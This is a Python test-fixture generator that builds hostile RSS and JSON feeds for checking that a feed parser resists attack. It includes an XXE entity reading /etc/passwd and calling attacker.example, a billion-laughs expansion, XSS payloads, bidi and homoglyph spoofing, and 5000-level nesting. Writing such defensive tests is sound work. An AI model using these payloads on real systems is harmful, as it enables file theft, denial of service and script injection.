"""The hostile feed fixtures: each one an attack the feed parser must refuse or defuse.

XML entities that read local files or fetch URLs, entities that expand exponentially, bytes
invalid in the declared encoding, markup that runs script, nesting that exhausts a stack, and an
HTML page where a feed should be. Written by `scripts/make_feed_fixtures.py`.
"""

from __future__ import annotations

from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

if TYPE_CHECKING:
    from scripts.make_feed_fixtures import Story

XML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
SHELL = '<rss version="2.0"><channel><title>{0}</title><link>https://hostile.example/</link>'


def _cdata(html_text: str) -> str:
    return f"<![CDATA[{html_text}]]>"


def hostile_fixtures(first: Story, second: Story) -> dict[str, bytes]:
    xxe = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [\n'
        '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
        '  <!ENTITY remote SYSTEM "http://attacker.example/steal">\n]>\n'
        + SHELL.format("&xxe;")
        + "<item><title>&remote;</title><link>https://hostile.example/1</link>"
        + "<pubDate>Fri, 01 May 2026 10:00:00 +0000</pubDate></item></channel></rss>\n"
    )
    laughs = '<?xml version="1.0"?>\n<!DOCTYPE rss [\n  <!ENTITY lol "lol">\n'
    for level in range(1, 10):
        inner = f"&lol{level - 1 if level > 1 else ''};" * 10
        laughs += f'  <!ENTITY lol{level} "{inner}">\n'
    laughs += "]>\n" + SHELL.format("&lol9;") + "</channel></rss>\n"
    invalid = (
        (XML_HEAD + SHELL.format("خطأ في الترميز") + "\n<item>\n<title>").encode("utf-8")
        + "عنوان".encode("cp1256")
        + b"\xff\xfe</title>\n<link>https://hostile.example/2</link></item></channel></rss>\n"
    )
    script = (
        XML_HEAD
        + SHELL.format("موجز &lt;script&gt;alert(1)&lt;/script&gt;")
        + f"""
<item>
 <title>&lt;script&gt;alert("title")&lt;/script&gt;{escape(first.title)}</title>
 <link>https://hostile.example/news/901</link>
 <pubDate>{first.rfc822}</pubDate>
 <description>{
            _cdata('<p onclick="alert(1)">ملخص<script>alert("summary")</script></p>')
        }</description>
 <content:encoded xmlns:content="http://purl.org/rss/1.0/modules/content/">{
            _cdata(
                "<p>" + escape(first.paragraphs[0]) + '<script>alert("content")</script></p>'
                '<p><img src="x" onerror="alert(1)"/><a href="javascript:alert(1)">رابط</a></p>'
                '<iframe src="https://attacker.example/"></iframe>'
            )
        }</content:encoded>
</item>
<item>
 <title><![CDATA[<img src=x onerror=alert(1)>\u202e{second.title}\u202c Pаypal ١٢٣ 123]]></title>
 <link>https://hostile.example/news/902</link>
 <pubDate>{second.rfc822}</pubDate>
 <description>{escape(second.excerpt)}\u200f\u2066</description>
</item>
</channel></rss>
"""
    )
    page = (
        '<!DOCTYPE html>\n<html lang="ar" dir="rtl"><head><meta charset="utf-8">'
        f"<title>{escape(first.title)}</title></head>\n<body><h1>{escape(first.title)}</h1>"
        f"<p>{escape(first.paragraphs[0])}</p></body></html>\n"
    )
    return {
        "hostile-xxe.xml": xxe.encode("utf-8"),
        "hostile-billion-laughs.xml": laughs.encode("utf-8"),
        "hostile-invalid-encoding.xml": invalid,
        "hostile-script.xml": script.encode("utf-8"),
        "hostile-deep.json": b'{"version": "https://jsonfeed.org/version/1.1", "items": '
        + b"[" * 5000
        + b"]" * 5000
        + b"}\n",
        "hostile-not-a-feed.html": page.encode("utf-8"),
    }
